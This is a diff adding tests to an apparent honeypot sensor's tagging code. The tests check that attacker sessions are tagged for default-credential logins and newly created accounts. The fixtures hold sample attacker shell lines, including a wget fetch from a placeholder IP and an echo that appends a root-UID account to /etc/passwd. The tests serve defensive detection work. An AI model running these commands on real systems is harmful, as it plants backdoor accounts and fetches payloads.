@@ -13,7 +13,7 @@ from decnet.bounds import BITES
 from decnet.bus.base import Event
 from decnet.errors import RuleError
 from decnet.runtime.received import received
-from decnet.ttp.context import SCRIPT_CAPPED, session_context
+from decnet.ttp.context import SCRIPT_CAPPED, reason_of, session_context
 from decnet.ttp.events import tagger_events
 from decnet.ttp.loader import load_dir, load_file
 from decnet.ttp.offline import OfflineTagger
@@ -113,15 +113,42 @@ def test_lines_that_the_shell_saw_as_one_are_read_as_one() -> None:
     record = received(ended(lines, joined=joined)).record
     told = session_context(record)  # type: ignore[arg-type]
     assert set(told) == {"s#cmd0+2", "s#cmd3"}
-    (facts,) = told["s#cmd3"].values()
+    (facts,) = told["s#cmd3"].context.values()
     assert facts.values["exec.origin"] == ["written"]
 
 
 def test_files_that_the_sensor_saw_come_are_known() -> None:
     uploads = [{"filename": "/tmp/quonba", "sha256": "ab" * 32}]
     record = received(ended(["./quonba"], uploads=uploads)).record
-    (facts,) = session_context(record)["s#cmd0"].values()  # type: ignore[arg-type]
+    (facts,) = session_context(record)["s#cmd0"].context.values()  # type: ignore[arg-type]
     assert facts.values["later.exec"] == ["uploaded"]
+
+
+def test_how_a_session_got_in_is_told_of_each_of_its_lines() -> None:
+    auth = {"success": True, "usernames": ["root"], "default_pair": True}
+    lines = ["id", "useradd -m sv2", "su - sv2", "wget http://203.0.113.9/x"]
+    session, *events = tagger_events(received(ended(lines, auth=auth)))
+    assert session.payload["session.login"] == ["default_pair"]
+    commands = [event.payload for event in events if event.source_kind == "command"]
+    assert [said["session.login"] for said in commands] == [
+        ["default_pair"], ["default_pair"], ["default_pair", "new_user"], ["default_pair", "new_user"],
+    ]  # fmt: skip
+    assert reason_of(commands[0], "id", "session.login") == (
+        "got in with a user and password that devices are delivered with"
+    )
+    assert reason_of(commands[3], "", "session.login") == (
+        "got in with a user and password that devices are delivered with; as sv2, made by line 2: useradd -m sv2"
+    )
+    other = tagger_events(received(ended(lines[:2], auth={**auth, "default_pair": False})))
+    assert [event.source_kind for event in other if "session.login" in event.payload] == []
+
+
+def test_the_rule_on_the_account_that_was_made_says_where() -> None:
+    lines = ["echo 'sv2:x:0:0::/root:/bin/sh' >> /etc/passwd", "su sv2 -c id"]
+    said = [e for e in tagger_events(received(ended(lines))) if e.source_id == "s#cmd1"]
+    (tag,) = [t for t in engine().evaluate(said[0]) if t.rule_id == "R0978"]
+    assert (tag.sub_technique_id, tag.evidence["matched"]) == ("T1078.003", "new_user")
+    assert tag.evidence["because"].startswith("as sv2, made by line 1: echo 'sv2:x:0:0")
 
 
 def test_bounds_are_counted_for_health() -> None:
